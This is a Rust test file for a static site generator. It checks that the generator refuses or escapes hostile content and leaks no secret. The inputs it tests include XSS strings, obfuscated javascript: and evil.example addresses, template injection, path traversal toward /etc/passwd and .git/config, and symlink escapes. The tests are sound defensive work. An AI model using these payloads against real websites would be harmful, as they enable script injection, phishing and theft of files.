//! Content that means harm, or is merely strange: never a panic, never a long wait, nothing
//! outside the output folder, no script, no file of the project in a page.

use std::fs;
use std::time::{Duration, Instant};

use crate::fixture::{Run, SiteTest, page, page_with, tree};

/// What no output may hold, whatever content says.
const SECRET: &str = "token-of-the-runner";

/// No input of these tests may take longer, on a busy machine with a debug build.
const LONGEST: Duration = Duration::from_secs(60);

/// A site with a secret in `.git/config` and one beside the site.
fn guarded() -> SiteTest {
    let site =
        SiteTest::new().file(".git/config", format!("[http]\nextraheader = {SECRET}\n")).file("data/x.toml", "x = 1\n");
    fs::write(site.around().join("secret.txt"), SECRET).expect("a secret");
    site
}

/// Builds; demands that nothing but `public/` and our records changed, and no secret is out.
#[track_caller]
fn build(site: &SiteTest) -> Run {
    let outside = |site: &SiteTest| {
        let mut all = tree(site.around());
        all.retain(|path, _| !path.starts_with("site/public/") && !path.starts_with("site/.fanzha/"));
        all
    };
    let before = outside(site);
    let begun = Instant::now();
    let run = site.build();
    let took = begun.elapsed();
    assert!(took < LONGEST, "took {took:?}");
    let after = outside(site);
    let new: Vec<_> = after.keys().filter(|path| !before.contains_key(*path)).collect();
    assert!(before == after, "files outside the output changed: {new:?}");
    for (path, bytes) in &run.out {
        let text = String::from_utf8_lossy(bytes);
        assert!(!text.contains(SECRET), "{path} gives the secret away");
    }
    if run.code != Some(0) {
        assert!(run.out.is_empty(), "a failed build wrote {:?}", run.out.keys());
    }
    run
}

/// Demands that the build refuses, naming one of these codes.
#[track_caller]
fn refused(site: SiteTest, codes: &[&str]) {
    let run = build(&site);
    if run.code == Some(0) {
        let source = site.tree().remove("content/a.md").unwrap_or_default();
        let made = run.out.get("a/index.html").cloned().unwrap_or_default();
        panic!(
            "the build accepted\n{}\nand made\n{}",
            String::from_utf8_lossy(&source),
            String::from_utf8_lossy(&made)
        );
    }
    assert!(codes.iter().any(|code| run.stderr.contains(&format!("[{code}]"))), "none of {codes:?} in\n{}", run.stderr);
}

#[test]
fn template_syntax_in_content_is_text() {
    let bodies = [
        "{{ load_data(path=\".git/config\", format=\"plain\") }}",
        "{% set x = load_data(path=\"data/x.toml\") %}{{ x }}",
        "{% include \"page.html\" %}",
        "{# comment #}",
        "{{ <tip/> }}",
        "{% for i in range(end=100000) %}{% for j in range(end=100000) %}x{% endfor %}{% endfor %}",
    ];
    for body in bodies {
        let run =
            build(&guarded().file("content/a.md", page(&format!("前 `{body}` 后\n\n{}", body.replace('<', "\\<")))))
                .ok();
        let escaped = body.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
        let text = run.text("a/index.html");
        assert_eq!(text.matches(&escaped).count(), 2, "`{body}` was not kept as text:\n{text}");
    }
}

#[test]
fn template_syntax_in_front_matter_and_components_is_text() {
    let attack = "{{ load_data(path='x.toml') }}";
    let site = guarded().file(
        "content/a.md",
        format!("+++\ntitle = \"{attack}\"\ndescription = \"这一页只为测试而写。{attack}\"\n+++\n\n## {attack}\n\n:::tip {attack}\n{attack}\n:::\n\n:::hotline only=\"{attack}\"\n:::\n"),
    );
    let run = build(&site).ok();
    let text = run.text("a/index.html");
    // Title, heading, component's title, body and argument.
    assert!(text.matches("{{ load_data(path=").count() >= 5, "{text}");
    assert!(!text.contains("x = 1"), "{text}");
}

#[test]
fn script_and_its_cousins_are_refused() {
    for attack in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<b onclick=\"alert(1)\">x</b>",
        "<b style=\"background:url(//evil.example)\">x</b>",
        "<iframe src=//evil.example></iframe>",
        "<form action=//evil.example><input name=password></form>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<link rel=stylesheet href=//evil.example>",
        "<style>@import '//evil.example'</style>",
        "<object data=//evil.example></object>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<!--><script>alert(1)</script>-->",
        "<div><!-- --!><script>alert(1)</script></div>",
        "<noscript><p title=\"</noscript><script>alert(1)</script>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<plaintext>",
        "<xmp>",
        "<?php system('id') ?>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<b title='x'>y</b>",
        "</main></body></html>",
    ] {
        for body in [format!("前 {attack} 后"), format!("{attack}\n"), format!(":::tip\n{attack}\n:::")] {
            let run = build(&guarded().file("content/a.md", page(&body)));
            if run.code == Some(0) {
                // What Markdown takes for text is shown as text, every angle bracket of it.
                let html = run.text("a/index.html");
                let main = html.split("<main>").nth(1).and_then(|rest| rest.split("</main>").next()).expect("the body");
                let live = main
                    .replace("<p>", "")
                    .replace("</p>", "")
                    .replace("<div class=\"tip\" lang=\"zh\"><b></b>", "")
                    .replace("</div>", "");
                assert!(!live.contains('<'), "`{attack}` came through:\n{main}");
            } else {
                assert!(run.stderr.contains("[content/raw-html]"), "`{attack}`:\n{}", run.stderr);
            }
        }
    }
}

#[test]
fn dangerous_addresses_are_refused() {
    for attack in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x0A;script:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "\u{1}javascript:alert(1)",
        "vbscript:x",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "blob:x",
        "ftp://x.gov.cn/",
        "//evil.example/",
        "https://evil.example/",
        "https://gov.cn@evil.example/",
        "https://evil.example\\\\@gov.cn/",
        "https:\\\\\\\\evil.example/",
        "https://gov.cn.evil.example/",
        "https:///evil.example/",
        "https:evil.example",
        "/\\\\evil.example/",
        "\\\\\\\\evil.example/",
        "https://xn--gov-9ma.example",
    ] {
        let codes = [
            "content/dangerous-url",
            "content/host-not-allowed",
            "content/broken-link",
            "io/outside-root",
            "content/missing-image",
        ];
        refused(guarded().file("content/a.md", page(&format!("[点这里](<{attack}>)"))), &codes);
        refused(guarded().file("content/a.md", page(&format!("![图片](<{attack}>)"))), &codes);
        refused(guarded().file("content/a.md", page(&format!("[点这里][x]\n\n[x]: <{attack}>"))), &codes);
    }
}

/// Addresses in front matter reach `href` in themes just as those of the body do.
#[test]
fn dangerous_addresses_in_front_matter_are_refused() {
    let template = "<a href=\"{{ page.source.url }}\">x</a>";
    for front in [
        "source = { name = \"某报\", url = \"javascript:alert(1)\" }\n",
        "source = { name = \"某报\", url = \"https://evil.example/\" }\n",
    ] {
        let site =
            guarded().file("themes/t/templates/page.html", template).file("content/a.md", page_with(front, "正文。"));
        refused(site, &["content/dangerous-url", "content/host-not-allowed", "front-matter/bad-value"]);
    }
    let law = page_with(
        "kind = \"article\"\ndate = 2026-01-01\nlaw = [{ name = \"某法\", url = \"javascript:alert(1)\" }]\n",
        "正文。",
    );
    refused(guarded().file("content/a.md", law), &["content/dangerous-url", "front-matter/bad-value"]);
    let section = "+++\ntitle = \"栏目\"\nredirect_to = \"javascript:alert(1)\"\n+++\n";
    refused(
        guarded().file("content/n/_index.md", section),
        &["content/dangerous-url", "content/broken-link", "front-matter/bad-value"],
    );
    let section = "+++\ntitle = \"栏目\"\nredirect_to = \"https://evil.example/\"\n+++\n";
    refused(guarded().file("content/n/_index.md", section), &["content/host-not-allowed", "front-matter/bad-value"]);
}

#[test]
fn paths_in_front_matter_stay_inside() {
    for front in [
        "path = \"../../escape\"\n",
        "path = \"a/../../../escape\"\n",
        "path = \"/..//../escape\"\n",
        "path = \"..\\\\..\\\\escape\"\n",
        "path = \"\"\n",
        "path = \"a\\u0000b\"\n",
        "slug = \"..\"\n",
        "slug = \"../escape\"\n",
        "slug = \".\"\n",
        "aliases = [\"/../../escape/\"]\n",
        "aliases = [\"../../escape.html\"]\n",
        "aliases = [\"/a/../../../escape.html\"]\n",
        "aliases = [\"\"]\n",
        "aliases = [\"https://evil.example/\"]\n",
    ] {
        let run = build(&guarded().file("content/a.md", page_with(front, "正文。")));
        let named = |path: &String| path.split('/').any(|part| part == ".." || part == "." || part.is_empty());
        assert!(!run.out.keys().any(named), "{front} made {:?}", run.out.keys());
        assert!(run.code != Some(0), "{front} was accepted: {:?}", run.out.keys());
    }
    // Written in percent, dots are a name like any other.
    let run = build(&guarded().file("content/a.md", page_with("path = \"%2e%2e/%2e%2e/escape\"\n", "正文。")));
    assert!(!run.out.keys().any(|path| path.split('/').any(|part| part == "..")), "{:?}", run.out.keys());
    for front in ["paginate_by = 1\npaginate_path = \"../../escape\"\n", "aliases = [\"/../../escape\"]\n"] {
        let site = guarded()
            .file("content/n/_index.md", format!("+++\ntitle = \"栏目\"\n{front}+++\n"))
            .file("content/n/a.md", page("正文。"))
            .file("content/n/b.md", page("正文。"));
        let run = build(&site);
        assert!(run.code != Some(0), "{front} was accepted: {:?}", run.out.keys());
    }
}

#[test]
fn links_and_pictures_stay_inside() {
    for target in [
        "../../secret.txt",
        "../../../../../etc/passwd",
        "../.git/config",
        "../data/x.toml",
        "..%2f..%2fsecret.txt",
        "/../secret.txt",
        "/media/../../secret.txt",
        "/media/%2e%2e/%2e%2e/secret.txt",
        "./../../site.toml",
    ] {
        let codes = ["io/outside-root", "content/broken-link", "content/missing-image"];
        refused(guarded().file("content/a.md", page(&format!("[x](<{target}>)"))), &codes);
        refused(guarded().file("content/a.md", page(&format!("![图片](<{target}>)"))), &codes);
        refused(
            guarded().file(
                "content/a.md",
                page_with(&format!("cover = {{ src = \"{target}\", alt = \"封面\" }}\n"), "正文。"),
            ),
            &codes,
        );
    }
}

/// Links may point to other sources, never to what is not published.
#[test]
fn symbolic_links_do_not_publish_what_is_no_source() {
    refused(
        guarded().link("content/a/x.txt", "../../.git/config").file("content/a/index.md", page("正文。")),
        &["io/outside-root"],
    );
    refused(
        guarded().link("content/a/x", "../../.git").file("content/a/index.md", page("正文。")),
        &["io/outside-root"],
    );
    refused(guarded().link("media/x", "../../secret.txt"), &["io/outside-root"]);
    refused(guarded().link("static/x", ".."), &["io/outside-root", "io/link-loop"]);
    refused(guarded().link("content/a.md", "/dev/zero"), &["io/outside-root", "io/unreadable"]);
}

#[test]
fn special_files_are_no_trap() {
    let site = guarded();
    let pipe = site.root().join("content/pipe.md");
    let made = std::process::Command::new("mkfifo").arg(&pipe).status().is_ok_and(|status| status.success());
    assert!(made, "mkfifo is needed");
    refused(site, &["io/unreadable"]);
}
